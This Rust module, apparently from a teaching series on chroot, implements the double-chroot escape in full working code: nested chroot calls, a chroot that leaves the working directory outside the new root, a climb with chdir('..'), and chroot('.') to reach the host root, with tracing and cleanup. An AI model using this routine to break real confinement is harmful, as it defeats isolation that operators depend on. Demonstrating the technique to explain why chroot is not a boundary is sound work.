//! Out by a second chroot(2): roots do not stack, a process has one.
//!
//! chroot(2) 1979; the program is the one of the series. Book: `double-chroot`.
//! Invariant: the directories made on the way are removed, whether the attempt succeeds or not.

use super::{canary::Canary, climb::climb_with_chdir, trace::Trace};
use crate::{Error, Result};
use nix::errno::Errno;
use nix::fcntl::{AT_FDCWD, AtFlags, OFlag, open};
use nix::sys::stat::{Mode, SFlag, fstatat, stat};
use nix::unistd::{UnlinkatFlags, chdir, chroot, mkdir, unlinkat};
use std::os::fd::OwnedFd;

/// The directory that is made to be a second root.
const SECOND: &str = "stage1-escape";

pub fn escape(depth: u8, canary: &Canary<'_>, trace: &mut Trace<'_>) -> Result<OwnedFd> {
    let mut made = Vec::new();
    let opened = (|| {
        for _ in 0..depth {
            nest(&mut made, trace)?;
        }
        leave(&mut made, trace)?;
        canary.open(AT_FDCWD, canary.path, &format!("open({:?}", canary.path), stat("/"), trace)
    })();
    remove(&made, trace);
    opened
}

// ANCHOR: stack
/// Goes into one more root properly, as a jailer would.
fn nest(made: &mut Vec<OwnedFd>, trace: &mut Trace<'_>) -> Result<()> {
    make(made, trace)?;
    trace.call(format!("chroot({SECOND:?})"), chroot(SECOND))?;
    trace.call("chdir(\"/\")", chdir("/"))
}
// ANCHOR_END: stack

// ANCHOR: double-chroot
/// Leaves whatever root this is.
fn leave(made: &mut Vec<OwnedFd>, trace: &mut Trace<'_>) -> Result<()> {
    make(made, trace)?;
    // The root moves below the working directory, which stays where it is: outside.
    trace.call(format!("chroot({SECOND:?})"), chroot(SECOND))?;
    // The kernel stops `..` at the root only; on this way up there is none but the host's.
    trace.call("chdir(\"..\") until it no longer moves", climb_with_chdir())?;
    trace.call("chroot(\".\")", chroot("."))
}
// ANCHOR_END: double-chroot

/// Makes the directory in the working directory, and keeps the latter in mind.
fn make(made: &mut Vec<OwnedFd>, trace: &mut Trace<'_>) -> Result<()> {
    let parent = open(".", OFlag::O_PATH | OFlag::O_DIRECTORY | OFlag::O_CLOEXEC, Mode::empty());
    let answer = match mkdir(SECOND, Mode::S_IRWXU) {
        Err(Errno::EEXIST) if is_directory() => Ok(()), // left by an attempt that was killed
        Err(Errno::EEXIST) => {
            let what = format!("{SECOND:?} is in the way, and no directory: nothing can be shown");
            return Err(Error::refused(what).with_hint("remove it from the jail"));
        }
        answer => answer,
    };
    trace.call(format!("mkdir({SECOND:?}, 0700)"), answer)?;
    made.extend(parent);
    Ok(())
}

/// A link of that name could lead to where we are already, and would look like containment.
fn is_directory() -> bool {
    fstatat(AT_FDCWD, SECOND, AtFlags::AT_SYMLINK_NOFOLLOW)
        .is_ok_and(|found| found.st_mode & SFlag::S_IFMT.bits() == SFlag::S_IFDIR.bits())
}

/// Removes the directories, the innermost first. What it answers is told, but is no verdict.
fn remove(made: &[OwnedFd], trace: &mut Trace<'_>) {
    for parent in made.iter().rev() {
        let answer = unlinkat(parent, SECOND, UnlinkatFlags::RemoveDir);
        trace.tell(format!("unlinkat(<fd>, {SECOND:?}, AT_REMOVEDIR)"), &answer);
    }
}
